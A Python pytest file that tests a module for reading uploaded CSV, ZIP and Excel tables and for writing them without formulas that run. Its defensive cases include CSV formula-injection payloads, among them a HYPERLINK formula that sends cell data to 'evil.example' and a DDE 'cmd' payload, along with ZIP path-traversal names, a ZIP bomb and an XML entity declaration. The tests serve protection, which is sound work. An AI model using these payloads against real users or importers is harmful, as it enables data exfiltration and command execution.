"""Tables that people bring: read whatever they are, refused in words, never half; written so that nothing runs."""

from __future__ import annotations

import csv
import gzip
import io
import struct
import zipfile
from datetime import UTC, date, datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from outreach.kit import tables
from outreach.kit.tables import BadTable, Caps, Row, SeveralTables

TWO = [("page", "anchor"), ("https://fern.example/a", "indoor ferns")]


def cells(data: bytes | str, **how: object) -> list[tuple[str, ...]]:
    return [row.cells for row in rows(data, **how)]


def rows(data: bytes | str, **how: object) -> list[Row]:
    table = tables.pasted(data) if isinstance(data, str) else tables.read(io.BytesIO(data), **how)  # type: ignore[arg-type]
    return list(table.rows())


def sheet(rows: list[list[tables.Cell]]) -> bytes:
    file = io.BytesIO()
    tables.write_xlsx(file, rows)
    return file.getvalue()


def packed(entries: dict[str, bytes | str]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return file.getvalue()


def workbook(sheet_xml: str, **more: str) -> bytes:
    """A workbook of one sheet with this inside `<sheetData>`."""
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    return packed(
        {
            "xl/workbook.xml": f'<workbook {main} xmlns:r="{office}"><sheets><sheet name="Links" sheetId="1" r:id="r1"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="x"><Relationship Id="r1" Type="{office}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
            "xl/worksheets/sheet1.xml": more.get("prolog", "") + f"<worksheet {main}><sheetData>{sheet_xml}</sheetData></worksheet>",
        }
    )  # fmt: skip


# What it is encoded in and separated by


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "cp1252"])
@pytest.mark.parametrize("delimiter", ["\t", ",", ";", "|"])
def test_encoding_and_delimiter_are_found_out(encoding: str, delimiter: str) -> None:
    text = f'"page"{delimiter}"anchor"\r\nhttps://fern.example/a{delimiter}"fougères {delimiter} d’intérieur"\r\n'
    assert cells(text.encode(encoding)) == [
        ("page", "anchor"),
        ("https://fern.example/a", f"fougères {delimiter} d’intérieur"),
    ]


def test_cells_of_several_lines_do_not_hide_the_sign_between_the_cells() -> None:
    rest = '"seeds, bulbs"\t"words before,\nand a second line"\r\n'
    text = '"page"\t"anchor"\t"context"\r\n' + "".join(
        f'"https://fern{n}.example/"\t{rest}' for n in range(9)
    )
    assert cells(text.encode("utf-16"))[1] == (
        "https://fern0.example/",
        "seeds, bulbs",
        "words before,\nand a second line",
    )


def test_utf16_with_a_mark_of_either_order_is_read() -> None:
    text = "page\tanchor\nhttps://fern.example/a\tindoor ferns\n"
    for mark, encoding in ((b"\xff\xfe", "utf-16-le"), (b"\xfe\xff", "utf-16-be")):
        assert cells(mark + text.encode(encoding)) == TWO


def test_a_file_of_two_encodings_is_read_and_told() -> None:
    table = tables.read(io.BytesIO("naïve;a\n".encode() + "naïve;b\n".encode("cp1252")))
    assert [row.cells for row in table.rows()] == [("naïve", "a"), ("naïve", "b")]
    assert "Windows-1252" in table.notices[0]


@pytest.mark.parametrize(
    ("encoding", "said"),
    [
        ("cp932", "サイト 佐藤 健一 高橋 美咲"), ("cp1251", "Сайт Наталья Воробьёва Яна Щука"), ("cp1253", "Ιστότοπος Ελένη Παπαδοπούλου"), ("cp1251", "Москва ИВАНОВ"), ("cp1251", "Яна Щука"), ("cp1253", "Αθήνα"), ("gb18030", "上海市"),
        ("cp1255", "אתר נועה כהן"), ("cp1256", "الموقع ليلى منصور"), ("cp874", "เว็บไซต์ สมชาย ใจดี"), ("gb18030", "网站 王小明 联系人 张伟"),
        ("big5", "網站 林書豪 聯絡人"), ("cp949", "사이트 김민수 이영희"), ("cp1250", "Łukasz Żak Wałęsa Brzęczyszczykiewicz"),
        ("cp1252", "Jörg Weiß, Æsa Þórðardóttir “à la carte” ÄÖÜ"), ("cp1252", "Bob’s “Mini” café – “Kew”"), ("cp1252", "voilà, à Paris – ñandú £9"),
    ],
)  # fmt: skip
def test_what_a_spreadsheet_of_another_country_saves_is_read_with_its_letters(
    encoding: str, said: str
) -> None:
    table = tables.read(io.BytesIO(f"moss.example;{said}\r\nfern.example;x\r\n".encode(encoding)))
    assert next(iter(table.rows())).cells == ("moss.example", said)
    assert "letters" in table.notices[0]


def test_a_line_of_excel_that_names_the_separator_is_obeyed() -> None:
    assert cells("sep=;\na,b;c\n") == [("a,b", "c")]


def test_a_plain_list_is_one_cell_a_line() -> None:
    assert cells("https://fern.example/a\n\nhttps://moss.example/b\n") == [
        ("https://fern.example/a",),
        ("https://moss.example/b",),
    ]


def test_what_is_copied_from_a_sheet_is_read() -> None:
    assert (
        cells("page\tanchor\nhttps://fern.example/a\tindoor ferns\nhttps://moss.example/\t\n")
        == [*TWO, ("https://moss.example/", "")]
    )  # fmt: skip


def test_a_number_of_a_row_is_the_one_a_spreadsheet_shows() -> None:
    found = rows('a,b\n\n"two\nlines",c\nd,e\n')
    assert [(row.number, row.cells) for row in found] == [
        (1, ("a", "b")), (3, ("two\nlines", "c")), (4, ("d", "e")),
    ]  # fmt: skip


def test_rows_may_be_walked_through_twice() -> None:
    table = tables.pasted("a,b\nc,d\n")
    assert list(table.rows()) == list(table.rows())


# Rows that cannot be read


def test_a_quote_that_never_ends_spoils_its_own_row_alone() -> None:
    lines = [f"https://fern.example/{number},fern {number}" for number in range(1, 41)]
    lines[16] = 'https://fern.example/17,"fern 17'
    found = rows("\n".join(lines))
    assert [row.number for row in found] == list(range(1, 41))
    assert [(row.number, row.problem) for row in found if row.problem] == [
        (17, "A quote is opened in it that never ends.")
    ]
    assert found[17].cells == ("https://fern.example/18", "fern 18")


def test_a_quote_that_never_ends_is_found_where_all_cells_are_quoted() -> None:
    lines = [f'"https://fern.example/{number}","fern {number}"' for number in range(1, 41)]
    lines[16] = lines[16][:-1]
    found = rows("\n".join(lines))
    assert [row.number for row in found if row.problem] == [17]
    assert len(found) == 40


def test_a_quote_in_the_middle_of_a_cell_spoils_its_own_row() -> None:
    found = rows('a,b\n"the "best" ferns",c\nd,e\n')
    assert [bool(row.problem) for row in found] == [False, True, False]


def test_a_file_of_nothing_but_open_quotes_is_refused() -> None:
    with pytest.raises(BadTable, match="cannot be read"):
        rows("\n".join(['a"b,"c'] * 1_000 + ['"']))


def test_a_cell_that_is_too_long_spoils_its_own_row() -> None:
    found = rows("a,b\n" + "x" * 40_000 + ",c\nd,e\n")
    assert [row.problem for row in found] == ["", "Its cell in column 1 is longer than 32,767 signs.", ""]


def test_a_line_without_end_is_read_in_pieces() -> None:
    found = rows(b"a,b\n" + b"x" * 3_000_000 + b"\nc,d\n")
    assert [row.problem for row in found] == ["", "The line is longer than 1,000,000 signs.", ""]


def test_a_nul_spoils_its_own_row() -> None:
    found = rows(b"page,anchor\nhttps://fern.example/a,fern\x00s\nhttps://moss.example/b,moss\n")
    assert [bool(row.problem) for row in found] == [False, True, False]


def test_rows_of_any_width_are_given_as_they_are() -> None:
    assert cells("a,b,c\n1,2\n1,2,3,4\n5,6,7\n")[1:3] == [("1", "2"), ("1", "2", "3", "4")]


def test_ten_thousand_columns_are_too_many() -> None:
    found = rows((",".join(f"c{n}" for n in range(10_000)) + "\n") * 2)
    assert [row.problem for row in found] == ["It has 10,000 columns; at most 256 can be read."] * 2


def test_a_million_rows_of_nothing_are_no_rows() -> None:
    assert rows(b"page,anchor\n" + b",\n" * 1_000_000) == [Row(1, ("page", "anchor"))]


def test_too_many_rows_are_refused_with_their_number() -> None:
    with pytest.raises(BadTable, match="more than 3 rows"):
        list(tables.read(io.BytesIO(b"a,b\n" * 5), caps=Caps(rows=3)).rows())


# Files that are no table, whatever their name says


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (b"", "empty"),
        (b"\xef\xbb\xbf \r\n", "empty"),
        (b"\x89PNG\r\n\x1a\n" + b"\x00" * 50, "picture"),
        (b"\xff\xd8\xff\xe0\x00\x10JFIF", "picture"),
        (b"GIF89a\x01\x00", "picture"),
        (b"%PDF-1.7\n", "PDF"),
        (gzip.compress(b"a,b\n", mtime=0), "gzip"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500, "old Excel"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600 + "EncryptedPackage".encode("utf-16-le"), "password"),
        (b' [\n {"site": "moss.example"},\n {"site": "fern.example"}]', "JSON"),
        (packed({"Index/Document.iwa": b"\x00"}), "Numbers"),
        (b"<html><table><tr><td>a</td></tr></table>", "web page"),
        (b"\x7fELF\x02\x01\x01", "program"),
        (bytes(range(256)) * 40, "no text"),
        (b"PK\x03\x04 and then nothing", "ends too early"),
        (packed({"picture.png": b"\x89PNG"}), "no table in this ZIP"),
        (packed({"word/document.xml": "<x/>"}), "Word"),
        (packed({"mimetype": "application/vnd.oasis.opendocument.spreadsheet"}), "OpenDocument"),
        (packed({"../../app/x.csv": "a,b"}), "leads out of it"),
        (packed({"/etc/x.csv": "a,b"}), "leads out of it"),
        (packed({"..\\x.csv": "a,b"}), "leads out of it"),
        (packed({"inner.csv": packed({"a.csv": "a,b"})}), "ZIP within the ZIP"),
        (packed({"bomb.csv": b"0" * 30_000_000}), "ZIP bomb"),
        (packed({f"{n}.csv": "" for n in range(1_001)}), "more than 1,000 files"),
    ],
)  # fmt: skip
def test_what_is_no_table_is_refused_in_words(data: bytes, says: str) -> None:
    with pytest.raises(BadTable, match=says):
        rows(data)


def test_an_index_of_a_million_entries_is_refused_before_it_is_read() -> None:
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 16_960, 16_960, 46_000_000, 0, 0)
    with pytest.raises(BadTable, match="more than 1,000 files"):
        rows(b"PK\x03\x04" + b"\x00" * 100 + end)


def test_what_would_be_too_large_unpacked_is_refused_by_its_index() -> None:
    with pytest.raises(BadTable, match="larger than 1 MB"):
        rows(packed({"a.csv": bytes(range(48, 58)) * 200_000}), caps=Caps(unpacked=2**20, ratio=10**6))


def test_a_zip_of_one_table_is_read() -> None:
    inner = "page,anchor\nhttps://fern.example/a,indoor ferns\n"
    assert (
        cells(packed({"links/latest.csv": inner, "__MACOSX/links/._latest.csv": "x", "read me.md": "x"}))
        == TWO
    )


def test_a_zip_of_one_workbook_is_read() -> None:
    assert cells(packed({"latest.xlsx": sheet([list(row) for row in TWO])})) == TWO


def test_a_zip_of_two_tables_names_them_and_one_may_be_picked() -> None:
    data = packed({"a.csv": "a,b\n", "b.csv": "c,d\n"})
    with pytest.raises(SeveralTables) as error:
        rows(data)
    assert error.value.names == ["a.csv", "b.csv"]
    assert cells(data, entry="b.csv") == [("c", "d")]


def test_a_locked_zip_is_refused() -> None:
    data = bytearray(packed({"a.csv": "a,b\n"}))
    data[data.index(b"PK\x01\x02") + 8] |= 1
    with pytest.raises(BadTable, match="password"):
        rows(bytes(data))


def test_a_zip_whose_bytes_are_broken_is_refused() -> None:
    data = bytearray(packed({"a.csv": "a,b\n" * 1_000}))
    data[45:60] = b"\xff" * 15
    with pytest.raises(BadTable, match="broken"):
        rows(bytes(data))


# Workbooks


def test_a_workbook_gives_values_as_people_read_them() -> None:
    data = sheet(
        [["page", "day", "price", "paid", "at"],
         ["https://fern.example/a", date(2026, 11, 3), 120, True, 0.1], ["x", None, 99.5, False, 12345678901]]
    )  # fmt: skip
    assert cells(data)[1:] == [
        ("https://fern.example/a", "2026-11-03", "120", "true", "0.1"), ("x", "", "99.5", "false", "12345678901"),
    ]  # fmt: skip


def test_a_formula_is_not_evaluated_and_its_kept_value_is_read() -> None:
    found = cells(
        workbook(
            '<row r="1"><c r="A1"><f>1+1</f><v>2</v></c><c r="C1" t="str"><f>"=x"</f><v>=x</v></c></row>'
        )
    )
    assert found == [("2", "", "=x")]


def test_rows_of_a_workbook_keep_their_numbers() -> None:
    found = rows(
        workbook(
            '<row r="3"><c r="A3"><v>1</v></c></row><row r="9"><c t="inlineStr"><is><t>x</t></is></c></row>'
        )
    )
    assert [(row.number, row.cells) for row in found] == [(3, ("1",)), (9, ("x",))]


def test_a_row_wider_than_may_be_spoils_itself_alone() -> None:
    found = rows(workbook('<row r="1"><c r="XFD1"><v>1</v></c></row><row r="2"><c r="A2"><v>2</v></c></row>'))
    assert [row.problem for row in found] == ["It has 16,384 columns; at most 256 can be read.", ""]


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (workbook("", prolog='<!DOCTYPE x [<!ENTITY a "aaaa">]>'), "document type"),
        (workbook('<row r="99999999999"/>'), "broken"),
        (workbook('<row r="x"/>'), "broken"),
        (workbook('<row><c t="s"><v>7</v></c></row>'), "broken"),
        (workbook('<row><c r="!!"><v>7</v></c></row>'), "broken"),
        (workbook("<row>"), "broken"),
        (workbook('<row x="' + "".join(chr(33 + n * 7919 % 26 + 32) for n in range(3_000_000)) + '"/>'), "broken|ZIP bomb"),
        (packed({"xl/workbook.xml": "<workbook/>", "xl/_rels/workbook.xml.rels": "<Relationships/>"}), "no sheet"),
    ],
)  # fmt: skip
def test_a_workbook_that_lies_is_refused(data: bytes, says: str) -> None:
    with pytest.raises(BadTable, match=says):
        rows(data)


def test_a_sheet_is_picked_by_its_name() -> None:
    from openpyxl import Workbook

    book, file = Workbook(), io.BytesIO()
    book.active.append(["first"])
    book.create_sheet("Links").append(["second"])
    book.save(file)
    table = tables.read(io.BytesIO(file.getvalue()))
    assert [row.cells for row in table.rows()] == [("first",)]
    assert table.sheets == ("Sheet", "Links")
    assert cells(file.getvalue(), sheet="Links") == [("second",)]
    with pytest.raises(BadTable, match="It has: Sheet, Links"):
        cells(file.getvalue(), sheet="Other")


# Writing

RUNS = [
    "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\xa0=1+1",
    "\ufeff=1+1", "\"=1+1", "'=1+1", "''=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "–1+1", "−1", "a;=1+1", "a; =1+1", "a\t@x", "=cmd|' /C calc'!'A1'",
    "=", "-", "@handle", "+49 30 1234567",
]  # fmt: skip
FINE = [
    "Ana",
    "'t Hart",
    "a = b",
    "1-2",
    "https://fern.example/?a=1;b=2",
    "x@fern.example",
    "10;20",
    "",
    "'",
    "“quoted”",
]


@pytest.mark.parametrize("text", RUNS)
def test_no_cell_runs_as_a_formula_and_each_comes_back(text: str) -> None:
    written = "".join(tables.csv_parts([["name"], [text, "next"]]))
    shown = list(csv.reader(io.StringIO(written.removeprefix("\ufeff"), newline="")))[1]
    assert shown[0].startswith("'")
    assert shown[1] == "next"
    assert cells(written.encode())[1] == (text, "next")
    assert cells(sheet([["name"], [text, "next"]]))[1] == (text, "next")


@pytest.mark.parametrize("text", ["a\r\nb", "_x000D_", "a_x0041_b", "_x005F_x000D_", "_x00", "__x000a__"])
def test_line_ends_and_escapes_stand_in_a_sheet_as_they_were(text: str) -> None:
    assert cells(sheet([["name"], [text]]))[1] == (text,)


@pytest.mark.parametrize("text", FINE)
def test_a_harmless_cell_is_left_as_it_is(text: str) -> None:
    assert tables.safe(text) == text


@given(st.text(alphabet="'\"=+-@;\t\r\n ab＝", max_size=12))
@settings(max_examples=300)
def test_what_was_made_safe_comes_back_as_it_was(text: str) -> None:
    assert tables.unsafe(tables.safe(text)) == text


def test_no_cell_of_a_sheet_is_a_formula() -> None:
    from openpyxl import load_workbook

    written = load_workbook(io.BytesIO(sheet([[text] for text in RUNS])))
    assert {cell.data_type for row in written.active.iter_rows() for cell in row} == {"s"}


def test_numbers_stay_numbers_and_moments_are_iso() -> None:
    at = datetime(2026, 11, 3, 9, 30, tzinfo=UTC)
    written = "".join(tables.csv_parts([[-5, 1.5, True, None, date(2026, 11, 3), at]]))
    assert written == '\ufeff-5,1.5,"true","","2026-11-03","2026-11-03T09:30:00+00:00"\r\n'


def test_a_long_table_is_written_in_parts() -> None:
    parts = list(tables.csv_parts([n, "x" * 100] for n in range(10_000)))
    assert len(parts) > 10
    assert max(map(len, parts)) < 100_000
    assert len(cells("".join(parts).encode())) == 10_000
